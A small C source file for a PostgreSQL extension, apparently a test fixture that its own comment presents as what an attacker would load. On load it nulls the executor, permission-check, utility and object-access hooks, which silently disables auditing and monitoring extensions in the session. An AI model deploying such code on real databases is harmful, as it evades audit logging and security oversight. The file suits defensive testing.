/* What an attacker would load: it takes away whatever watches statements in its own session. */
#include "postgres.h"

#include "catalog/objectaccess.h"
#include "executor/executor.h"
#include "fmgr.h"
#include "tcop/utility.h"

PG_MODULE_MAGIC;
PG_FUNCTION_INFO_V1(unhook);

extern PGDLLEXPORT void _PG_init(void);

void
_PG_init(void)
{
	ExecutorStart_hook = NULL;
	ExecutorCheckPerms_hook = NULL;
	ProcessUtility_hook = NULL;
	object_access_hook = NULL;
}

Datum
unhook(PG_FUNCTION_ARGS)
{
	_PG_init();
	PG_RETURN_VOID();
}
